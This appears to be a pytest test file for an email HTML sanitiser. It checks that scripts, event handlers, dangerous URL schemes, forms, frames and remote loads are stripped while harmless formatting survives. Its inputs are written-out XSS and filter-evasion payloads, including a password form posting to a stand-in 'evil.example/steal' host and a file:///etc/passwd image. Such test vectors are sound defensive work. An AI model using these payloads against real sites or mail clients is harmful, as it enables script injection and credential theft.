"""The mail HTML sanitiser (`maildesk.core.sanitize`) against hostile input.

Pure: HTML in, HTML out. What must never come out: anything that runs (scripts,
event handlers, `javascript:` and other unlisted schemes), anything that submits
or frames (forms, iframes, objects), anything that loads from elsewhere unasked
(remote images, stylesheets, CSS url()), and relative URLs into this site."""

from __future__ import annotations

import re

import pytest

from maildesk.core.sanitize import REMOTE_PLACEHOLDER, clean_html, content_id_key

EVENT_HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.I)


def clean(html: str, images: dict[str, str] | None = None, remote: bool = False) -> str:
    return clean_html(html, images or {}, remote).html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        '<body onload="alert(1)">',
        '<p onclick="alert(1)" onmouseover=alert(1)>p</p>',
        '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">s</a></svg>',
        "<svg onload=alert(1)><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
        '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
        '<a href="javascript:alert(1)">a</a>',
        '<a href="JaVaScRiPt:alert(1)">a</a>',
        '<a href="jav&#x09;ascript:alert(1)">a</a>',
        '<a href="&#0000106avascript:alert(1)">a</a>',
        '<a href=" javascript:alert(1)">a</a>',
        '<a href="vbscript:msgbox(1)">a</a>',
        '<a href="data:text/html,<script>alert(1)</script>">a</a>',
        '<details open ontoggle="alert(1)"><summary>s</summary></details>',
    ],
)
def test_nothing_that_runs_survives(hostile: str) -> None:
    out = clean(f"<p>before</p>{hostile}<p>after</p>")
    lowered = out.lower()
    assert "<script" not in lowered and "javascript:" not in lowered
    assert "vbscript:" not in lowered and "data:text" not in lowered
    assert EVENT_HANDLER.search(out) is None, out
    assert "<svg" not in lowered and "<iframe" not in lowered and "<object" not in lowered
    assert out.startswith("<p>before</p>")  # (an unclosed <style> swallows what follows)


def test_forms_frames_and_page_level_tags_are_dropped() -> None:
    out = clean(
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
        '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/c">'
        "<style>p { display: none }</style><title>Title</title>"
        '<form action="https://evil.example/steal" method="post">'
        '<input type="password" name="p"><select><option>o</option></select>'
        '<textarea>typed</textarea><button formaction="https://evil.example/">Log in</button>'
        "</form>"
    )
    assert out == "Log in"  # the button's text is all that is left


def test_formatting_is_kept() -> None:
    html = (
        '<h2>Order</h2><p dir="ltr">Your <b>order</b> <i>shipped</i>.</p>'
        '<table width="100%" cellpadding="2"><tbody><tr><td colspan="2" bgcolor="#eeeeee">'
        "Total</td></tr></tbody></table><ul><li>one</li></ul><blockquote>quoted</blockquote>"
        '<font color="#ff0000">red</font><pre>  code</pre><br><hr>'
    )
    assert clean(html) == html


def test_links_open_apart_and_only_with_listed_schemes() -> None:
    out = clean(
        '<a href="https://shop.example/o?id=1&amp;x=2" target="_top" rel="opener">order</a>'
        '<a href="mailto:help@shop.example">mail</a><a href="tel:+491234">call</a>'
        '<a href="/logout">here</a><a href="//evil.example/">there</a><a href="ftp://f/">f</a>'
    )
    links = re.findall(r"<a ([^>]*)>(\w+)</a>", out)
    by_text = {text: attributes for attributes, text in links}
    assert 'href="https://shop.example/o?id=1&amp;x=2"' in by_text["order"]
    for attributes in by_text.values():
        assert 'target="_blank"' in attributes and 'rel="noopener noreferrer"' in attributes
        assert 'opener"' not in attributes.replace("noopener", "")
    assert 'href="mailto:help@shop.example"' in by_text["mail"]
    assert 'href="tel:+491234"' in by_text["call"]
    for text in ("here", "there", "f"):  # relative, protocol-relative, unlisted scheme
        assert "href" not in by_text[text]


def test_remote_images_wait_to_be_asked_for() -> None:
    html = (
        '<img src="https://tracker.example/x.png" width="1" height="1">'
        '<img src="http://cdn.example/banner.jpg" alt="Banner">'
    )
    blocked = clean_html(html, {})
    assert blocked.remote_blocked == 2
    assert "tracker.example" not in blocked.html and "cdn.example" not in blocked.html
    assert blocked.html.count(f'src="{REMOTE_PLACEHOLDER}"') == 2
    assert 'alt="Banner"' in blocked.html and 'width="1"' in blocked.html
    shown = clean_html(html, {}, remote=True)
    assert shown.remote_blocked == 0
    assert 'src="https://tracker.example/x.png"' in shown.html
    assert 'src="http://cdn.example/banner.jpg"' in shown.html


def test_images_other_than_remote_cid_and_plain_data_are_dropped() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    out = clean(
        f'<img src="{png}"><img src="data:image/svg+xml;base64,PHN2Zz4=">'
        '<img src="//tracker.example/p.gif"><img src="/attachments/1/x.png">'
        '<img src="file:///etc/passwd"><img srcset="https://t.example/a.png 1x" '
        'lowsrc="https://t.example/b.png"><table background="https://t.example/bg.png">'
        "<tbody><tr><td>t</td></tr></tbody></table>",
        remote=True,
    )
    assert f'<img src="{png}">' in out
    assert out.count("<img>") == 5
    assert "t.example" not in out and "svg" not in out


def test_cid_images_point_at_the_messages_attachments() -> None:
    images = {"logo@shop.example": "/attachments/7/logo.png?inline=1"}
    out = clean(
        '<img src="cid:LOGO@shop.example" alt="Logo"><img src="cid:logo%40shop.example">'
        '<img src="cid:other@shop.example">',
        images,
    )
    assert out.count('src="/attachments/7/logo.png?inline=1"') == 2
    assert out.endswith("<img>")  # an unknown part: no source at all
    assert content_id_key("<Part.1@X>") == content_id_key("part.1%40x") == "part.1@x"


def test_inline_css_cannot_load_or_cover() -> None:
    out = clean(
        '<p style="color: red; background-image: url(https://t.example/x.png); '
        "position: fixed; top: 0; z-index: 9; font-family: \\75rl(https://t.example/f); "
        'width: expression(alert(1)); background: url(x); margin: 4px">text</p>'
        '<p style="color: rgb(1, 2, 3); padding: calc(1px + 2px)">rgb</p>'
    )
    assert '<p style="color:red;margin:4px">text</p>' in out
    assert '<p style="color:rgb(1, 2, 3);padding:calc(1px + 2px)">rgb</p>' in out
    assert "url" not in out and "expression" not in out and "fixed" not in out
